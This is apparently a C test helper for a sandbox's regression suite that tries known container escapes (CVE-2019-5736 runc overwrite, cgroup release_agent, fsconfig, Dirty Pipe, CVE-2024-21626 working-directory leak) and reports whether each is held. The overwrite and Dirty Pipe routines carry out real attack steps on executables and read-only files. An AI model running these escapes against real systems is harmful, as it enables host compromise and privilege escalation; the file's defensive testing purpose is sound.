/* Attacks from public reports about other sandboxes, for tests/cves.sh.
 *
 * Inside a sandbox: print "held: WHY" or "ESCAPED: HOW", exit with 0 or 1.
 *	attack_cves overwrite       overwrite the program of a parent or of
 *	                            process 1 by /proc/PID/exe (CVE-2019-5736)
 *	attack_cves release-agent   set the release agent of a control group
 *	                            (CVE-2022-0492)
 *	attack_cves fsconfig        overflow the parameters of a file system
 *	                            (CVE-2022-0185)
 *	attack_cves pipe FILE       write to a read-only file by its page in a
 *	                            pipe (CVE-2022-0847)
 *	attack_cves workdir FILE    read FILE of the host from the working
 *	                            directory (CVE-2024-21626)
 * On the host:
 *	attack_cves old COMMAND     run COMMAND without close_range(2)
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Call numbers missing in the libc of 2022; the same on all architectures. */
enum { FSOPEN = 430, FSCONFIG = 431, CLOSE_RANGE = 436 };

static _Noreturn void
escaped(const char *how)
{
	printf("ESCAPED: %s\n", how);
	exit(1);
}

static _Noreturn void
held(const char *why)
{
	printf("held: %s\n", why);
	exit(0);
}

/* Open the program file of another process, unless it is a copy in memory. */
static int
program_of(int pid)
{
	char path[32], target[64] = "";

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (readlink(path, target, sizeof(target) - 1) < 0 ||
	    strncmp(target, "/memfd:", 7) == 0 || strstr(target, "busybox"))
		return -1;
	return open(path, O_RDONLY);
}

/* The file is busy until the process exits, but chmod(2) succeeds at once. */
static _Noreturn void
overwrite(void)
{
	const int pids[] = { 1, getppid() };

	for (int i = 0; i < 2; i++) {
		int fd = pids[i] > 0 ? program_of(pids[i]) : -1;
		char path[32];

		if (fd < 0)
			continue;
		if (fchmod(fd, 04777) == 0)
			escaped("the mode of the program was changed");
		if (pids[i] > 1)
			kill(pids[i], SIGKILL);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		for (int n = 0; n < 500; n++) {
			int out = open(path, O_WRONLY);

			if (out >= 0 && write(out, "#!/tmp/x\n", 9) == 9)
				escaped("the program was written");
			if (errno != ETXTBSY)
				break;
			usleep(100);
		}
	}
	held(strerror(errno));
}

static void
write_agent(const char *dir)
{
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "%s/release_agent", dir);
	fd = open(path, O_WRONLY);
	if (fd >= 0 && write(fd, "", 1) == 1)
		escaped("a release agent was written");
}

static _Noreturn void
release_agent(void)
{
	static const char *const controllers[] = { "memory", "cpu", "pids",
	    "rdma", "devices", "freezer", "misc", "none,name=pith-agent" };

	unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
	for (size_t i = 0; i < sizeof(controllers) / sizeof(char *); i++) {
		char dir[64];

		snprintf(dir, sizeof(dir), "/sys/fs/cgroup/%s", controllers[i]);
		write_agent(dir);
		if (mount("none", "/tmp", "cgroup", 0, controllers[i]) == 0) {
			write_agent("/tmp");
			umount2("/tmp", MNT_DETACH);
		}
	}
	held(strerror(errno));
}

/* The kernel bug needs a file system context and CAP_SYS_ADMIN in any user
 * namespace. */
static _Noreturn void
fsconfig(void)
{
	static const char *const types[] = { "ext4", "cgroup2", "tmpfs" };

	unshare(CLONE_NEWUSER | CLONE_NEWNS);
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		int fd = syscall(FSOPEN, types[i], 0);

		if (fd >= 0 && (syscall(FSCONFIG, fd, 1 /* SET_STRING */, "a",
		    "b", 0) == 0 || errno == EINVAL))
			escaped("a file system takes parameters");
	}
	held(strerror(errno));
}

/* Fill all pages of a pipe once, splice a page of the file into it, and write a
 * byte, which a vulnerable kernel writes into that page. */
static _Noreturn void
pipe_into(const char *path)
{
	static char page[4096], before, after;
	off_t at = 0;
	int ends[2], fd = open(path, O_RDONLY);

	if (fd < 0 || pread(fd, &before, 1, 1) != 1 || pipe(ends) < 0)
		held(strerror(errno));
	for (int i = 0; i < 16; i++)
		if (write(ends[1], page, sizeof(page)) < 0 ||
		    read(ends[0], page, sizeof(page)) < 0)
			held(strerror(errno));
	if (splice(fd, &at, ends[1], NULL, 1, 0) != 1 ||
	    write(ends[1], "X", 1) != 1 || pread(fd, &after, 1, 1) != 1)
		held(strerror(errno));
	if (before != after)
		escaped("a file that may only be read was written");
	held("the file is what it was");
}

static _Noreturn void
workdir(const char *file)
{
	char path[4096] = "";

	for (int i = 0; i < 64; i++)
		strcat(path, "../");
	strcat(path, file + 1);
	if (access(path, F_OK) == 0)
		escaped("the working directory is one of the host");
	held(strerror(errno));
}

static _Noreturn void
old(char **command)
{
	struct sock_filter program[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
		    offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, CLOSE_RANGE, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	const struct sock_fprog filter = { 4, program };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter) < 0)
		perror("seccomp");
	else
		execvp(command[0], command);
	exit(99);
}

int
main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "overwrite") == 0)
		overwrite();
	if (strcmp(what, "release-agent") == 0)
		release_agent();
	if (strcmp(what, "fsconfig") == 0)
		fsconfig();
	if (argc > 2 && strcmp(what, "pipe") == 0)
		pipe_into(argv[2]);
	if (argc > 2 && strcmp(what, "workdir") == 0)
		workdir(argv[2]);
	if (argc > 2 && strcmp(what, "old") == 0)
		old(argv + 2);
	fprintf(stderr, "attack_cves: what?\n");
	return 99;
}
